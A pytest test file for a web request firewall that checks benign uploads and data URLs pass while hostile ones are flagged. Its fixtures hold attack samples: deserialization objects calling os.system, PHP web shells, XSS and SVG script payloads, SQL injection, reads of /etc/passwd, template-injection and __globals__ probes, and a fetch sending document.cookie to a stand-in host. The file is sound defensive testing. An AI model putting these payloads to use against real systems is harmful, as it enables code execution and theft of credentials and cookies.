# ruff: noqa: E501  (documents as programs write them)
"""Files that clients send within fields pass: compressed, as data URLs, under their names."""

from __future__ import annotations

import base64
import bz2
import gzip
import json
import lzma
import zlib
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guard_wsgi.detection import Detector, Finding, Inspection
from guard_wsgi.detection.formats.svg import texts_of_picture
from tests.detection.requests import environ

FORM = "application/x-www-form-urlencoded"
FIELDS = ("image", "file", "content", "avatar", "url", "attachment")
INSPECTION = Detector().compile()


def base64_of(data: bytes) -> str:
    return base64.b64encode(data).decode()


def in_field(inspection: Inspection, field: str, text: str) -> tuple[Finding, ...]:
    """Return the findings in a field of a JSON document and of a form."""
    document = json.dumps({"id": 5, field: text}).encode()
    form = f"csrf_token=x&{field}={quote(text, safe='')}".encode()
    return (
        *inspection.body(document, content_type="application/json"),
        *inspection.body(form, content_type=FORM),
    )


@given(
    st.one_of(st.text(max_size=300).map(str.encode), st.binary(max_size=300)),
    st.integers(0, 9),
    st.sampled_from([0, 1, 1733000000]),
    st.sampled_from(FIELDS),
)
def test_compressed_data_is_no_serialized_object(
    data: bytes, level: int, mtime: int, field: str
) -> None:
    text = base64_of(gzip.compress(data, level, mtime=mtime))
    assert not in_field(INSPECTION, field, text)


@pytest.mark.parametrize("pack", [zlib.compress, bz2.compress, lzma.compress])
def test_other_compressions_pass(inspection: Inspection, pack: object) -> None:
    assert callable(pack)
    packed = pack(b'{"name": "web", "replicas": 3}\n' * 40)
    assert not in_field(inspection, "content", base64_of(packed))


def test_a_release_of_helm_passes(inspection: Inspection) -> None:
    """It is packed, put in base64, and that in base64 once more."""
    packed = gzip.compress(b'{"name":"shop","info":{"status":"deployed"}}', mtime=0)
    assert not in_field(inspection, "release", base64_of(base64_of(packed).encode()))


JAVA = b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda\x30\xb4\xfb\x3f\x82\xb1"
PICKLE = b"\x80\x04\x95(\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\rcat /etc/pass\x94\x85\x94R\x94."
OBJECTS = (
    JAVA,
    PICKLE,
    b"cos\nsystem\n(S'id'\ntR.",
    b'O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";N;}',
    b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00_System.Management",
    b"!!python/object/apply:os.system ['id']",
)


@pytest.mark.parametrize("data", OBJECTS)
@pytest.mark.parametrize("mtime", [0, 1733000000])
def test_a_serialized_object_in_gzip_is_refused(
    inspection: Inspection, data: bytes, mtime: int
) -> None:
    text = base64_of(gzip.compress(data + b"a" * 50, mtime=mtime))
    assert in_field(inspection, "content", text)
    assert inspection.head(environ(query="state=" + quote(text, safe="")))
    assert inspection.head(environ(HTTP_COOKIE="session=" + text))


def test_a_long_file_name_in_gzip_hides_no_object(inspection: Inspection) -> None:
    # FNAME (RFC 1952, 2.3): a name of any length precedes the data.
    packed = gzip.compress(JAVA, mtime=0)
    named = packed[:3] + b"\x08" + packed[4:10] + b"n" * 5000 + b"\x00" + packed[10:]
    assert gzip.decompress(named) == JAVA
    assert in_field(inspection, "content", base64_of(named))


NS = 'xmlns="http://www.w3.org/2000/svg"'
PICTURES = (
    f'<svg {NS} width="16" height="16"><path d="M0 0h16v16z"/></svg>',
    f'<svg {NS} viewBox="0 0 24 24"><circle cx="12" cy="12" r="10" fill="#f00"/></svg>',
    f'<?xml version="1.0" encoding="UTF-8"?>\n<svg {NS}><rect width="9" height="9" style="fill:rgb(0,0,255)"/></svg>\n',
    f'<svg {NS} xmlns:xlink="http://www.w3.org/1999/xlink"><defs><linearGradient id="a"><stop offset="0"/></linearGradient></defs><use xlink:href="#b"/><rect fill="url(#a)"/></svg>',
    f'<svg {NS}><style>.a{{fill:#333}}</style><path class="a" d="M8 0l8 16H0z"/></svg>',
    f'<svg {NS}><title>Logo of a shop</title><animate attributeName="cx" from="0" to="20" dur="1s"/></svg>',
    f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg {NS}><g/></svg>',
    f'<svg {NS} xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.2"><inkscape:grid/><g inkscape:label="Layer 1"/></svg>',
)


@pytest.mark.parametrize("picture", PICTURES)
@pytest.mark.parametrize("field", FIELDS)
def test_a_picture_that_only_draws_passes(inspection: Inspection, picture: str, field: str) -> None:
    whole = "data:image/svg+xml;base64," + base64_of(picture.encode())
    assert not in_field(inspection, field, whole)
    assert not in_field(inspection, field, "data:image/svg+xml," + quote(picture))
    assert not in_field(inspection, "text", f'See <img src="{whole}" alt="logo"> for the logo.')
    assert not in_field(inspection, "css", f'.a {{ background-image: url("{whole}"); }}')


def test_a_picture_in_quotes_of_the_other_kind_passes(inspection: Inspection) -> None:
    # Style sheets and components contain them like this.
    raw = "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 8 8'><path fill='%23fff' d='M6.5 1l-4 4'/></svg>"
    assert not in_field(inspection, "icon", "data:image/svg+xml;utf8," + raw)
    escaped = raw.replace("<", "%3C").replace(">", "%3E")
    assert not in_field(inspection, "css", f'.a{{background:url("data:image/svg+xml,{escaped}")}}')


ACTIVE = (
    f'<svg {NS} onload="alert(1)"/>',
    f"<svg {NS}><script>f()</script></svg>",
    f'<svg {NS}><script href="https://e.example/x.js"/></svg>',
    f'<svg {NS}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="f()"/></foreignObject></svg>',
    f'<svg {NS}><a href="javascript:f()"><text>x</text></a></svg>',
    f'<svg {NS} xmlns:l="http://www.w3.org/1999/xlink"><a l:href="java&#10;script:f()"><text>x</text></a></svg>',
    f'<svg {NS}><animate attributeName="href" values="javascript:f()"/></svg>',
    f'<svg {NS}><set attributeName="onmouseover" to="f()"/></svg>',
    f'<svg {NS}><use href="https://e.example/x.svg#a"/></svg>',
    f'<svg {NS}><image href="https://e.example/x.png"/></svg>',
    f'<svg {NS}><style>@import "//e.example/x.css";</style></svg>',
    f"<svg {NS}><g style='background:url(//e.example/x)'/></svg>",
    f'<svg {NS}><g style="background:u\\72l(//e.example/x)"/></svg>',
    f'<!DOCTYPE svg [<!ENTITY x "y">]><svg {NS}><text>&x;</text></svg>',
    f'<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg {NS}/>',
    f'<?xml-stylesheet href="//e.example/x.xsl" type="text/xsl"?><svg {NS}/>',
    f'<svg {NS}><h:script xmlns:h="http://www.w3.org/1999/xhtml">f()</h:script></svg>',
    '<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="f()"/>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="f()"/></html>',
    f'<svg {NS} xml:base="https://e.example/"><use href="x.svg#a"/></svg>',
)


@pytest.mark.parametrize("picture", ACTIVE)
def test_a_picture_that_does_more_than_draw_is_none(inspection: Inspection, picture: str) -> None:
    assert texts_of_picture(picture, is_escaped=True) is None
    for kind in ("image/svg+xml", "application/xml", "text/xml", "application/xhtml+xml"):
        whole = f"data:{kind};base64," + base64_of(picture.encode())
        for field in FIELDS:
            assert in_field(inspection, field, whole)


@pytest.mark.parametrize(
    "raw",
    [
        "<svg xmlns='http://www.w3.org/2000/svg' class=' or id like a or '/>",
        "<svg xmlns='http://www.w3.org/2000/svg' class=';delete from users where a='/>",
        "<svg xmlns='http://www.w3.org/2000/svg' class=' union select password from users -- '/>",
        "<svg xmlns='http://www.w3.org/2000/svg'><!-- ' or 1=1 --></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><text> union select pw from users </text></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><text>$(cat /etc/passwd)</text></svg>",
    ],
)
def test_quotes_of_a_picture_carry_nothing_out_of_it(inspection: Inspection, raw: str) -> None:
    assert texts_of_picture(raw, is_escaped=False) is None
    assert in_field(inspection, "icon", "data:image/svg+xml;utf8," + raw)


FILES = (
    ("text/plain", "Hello Ann, see you at five."),
    ("text/plain", ""),
    ("text/plain", "Dear all,\nthe meeting is on Monday.\n"),
    ("text/plain;charset=utf-8", "Gr\u00fc\u00dfe aus K\u00f6ln\n"),
    ("text/plain;name=a.txt", "1,2,3"),
    ("text/javascript", "\n"),
    ("text/javascript", "const a = 1;\nexport default a;\n"),
    ("application/x-javascript", "function add(x) {\n  return x + 1;\n}\n"),
    ("text/html", "<p>Hello</p>"),
    ("text/html", "<!DOCTYPE html>\n<html><head><title>A</title></head><body><h1>Hi</h1><p>Some text</p></body></html>"),
    ("text/xml", '<?xml version="1.0"?><order><item n="2">Tea</item></order>'),
    ("application/atom+xml", '<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title></feed>'),
    ("text/csv", "a,b\n1,2\n"),
    ("text/x-python", "def add(x):\n    return x + 1\n"),
    ("application/x-sh", "echo done\n"),
    ("application/yaml", "a: 1\nb: 2\n"),
)  # fmt: skip


@pytest.mark.parametrize(("kind", "text"), FILES)
@pytest.mark.parametrize("field", FIELDS)
def test_a_file_that_a_page_has_read_passes(
    inspection: Inspection, kind: str, text: str, field: str
) -> None:
    assert not in_field(inspection, field, f"data:{kind};base64," + base64_of(text.encode()))


@pytest.mark.parametrize("text", ["Hello Ann", "x = 5", "See you at five, at the north gate."])
def test_plain_text_with_escapes_passes(inspection: Inspection, text: str) -> None:
    assert not in_field(inspection, "image", "data:text/plain;charset=utf-8," + quote(text))


PROGRAMS = (
    ("text/html", "<script>alert(1)</script>"),
    ("text/html", "<img src=x onerror=alert(1)>"),
    ("text/html", '<a href="javascript:f()">x</a>'),
    ("text/html", '<body onload="f()">'),
    ("text/html", "<iframe srcdoc='&lt;script&gt;f()&lt;/script&gt;'>"),
    ("text/html;charset=utf-7", "+ADw-script+AD4-f()+ADw-/script+AD4-"),
    ("text/javascript", "fetch('//e.example/'+document.cookie)"),
    ("text/javascript", "alert(document.domain)"),
    ("text/plain", "<?php system($_GET['c']); ?>"),
    ("text/plain", "<?=`$_GET[0]`?>"),
    ("image/png", "<?php eval($_POST[1]); ?>"),
    ("text/plain", "' union select password from users -- "),
    ("text/plain", "; cat /etc/passwd"),
    ("application/octet-stream", "{{ ''.__class__.__mro__ }}"),
)


@pytest.mark.parametrize(("kind", "text"), PROGRAMS)
@pytest.mark.parametrize("field", FIELDS)
def test_what_the_content_does_is_weighed(
    inspection: Inspection, kind: str, text: str, field: str
) -> None:
    assert in_field(inspection, field, f"data:{kind};base64," + base64_of(text.encode()))
    assert in_field(inspection, field, f"data:{kind}," + quote(text))


@pytest.mark.parametrize("field", ["page", "template", "include", "module", "lang"])
def test_a_data_url_where_a_program_is_chosen_is_refused(
    inspection: Inspection, field: str
) -> None:
    assert in_field(inspection, field, "data:text/plain;base64,SGVsbG8=")
    assert inspection.head(environ(query=f"{field}=data:text/plain,hello"))


NAMES = ("__init__.py", "__init__.pyi", "__main__.py", "__version__.py", "__tests__", "__mocks__")


@pytest.mark.parametrize("name", NAMES)
def test_files_of_python_may_be_called_as_they_are(inspection: Inspection, name: str) -> None:
    for path in (f"/src/pkg/{name}", f"/{name}", f"/api/contents/pkg/{name}", f"/bucket/a/{name}"):
        for method in ("GET", "HEAD", "PUT", "DELETE", "PROPFIND"):
            assert not inspection.head(environ(path=path) | {"REQUEST_METHOD": method})
    for field in ("q", "file", "path", "name", "key", "filename", "prefix"):
        for text in (name, f"pkg/{name}", f"src/pkg/sub/{name}"):
            assert not in_field(inspection, field, text)
            assert not inspection.head(environ(query=f"{field}={text}"))
    target = f"http://shop.example.com/a/{name}"
    moved = environ(path="/a/x", HTTP_DESTINATION=target) | {"REQUEST_METHOD": "MOVE"}
    assert not inspection.head(moved)


@pytest.mark.parametrize(
    "text",
    [
        "__init__.__globals__",
        "user.__init__.__globals__.SECRET_KEY",
        "__class__.__init__.__globals__",
        "__init__.__kwdefaults__.admin",
        "__class__.is_admin",
        "__init__/__globals__/app",
    ],
)
def test_a_walk_through_python_objects_is_refused(inspection: Inspection, text: str) -> None:
    assert in_field(inspection, "key", text)
    assert inspection.head(environ(query=f"key={text}"))


@pytest.mark.parametrize("name", ["[id].tsx", "[id]", "[...slug].js", "[[...all]].tsx", "[lang]"])
def test_routes_of_web_frameworks_are_names_of_files(inspection: Inspection, name: str) -> None:
    for path in (f"/dav/{name}", f"/dev/{name}", f"/blob/main/app/{name}/page.tsx"):
        for method in ("GET", "PUT", "PROPFIND"):
            assert not inspection.head(environ(path=path) | {"REQUEST_METHOD": method})


@pytest.mark.parametrize(
    "text", ["/bin/c[a]t", "/etc/pas[s]wd", "/usr/bin/[c]url", "/bin/[[:alpha:]]at"]
)
def test_brackets_within_the_name_of_a_program_are_refused(
    inspection: Inspection, text: str
) -> None:
    assert in_field(inspection, "name", text)
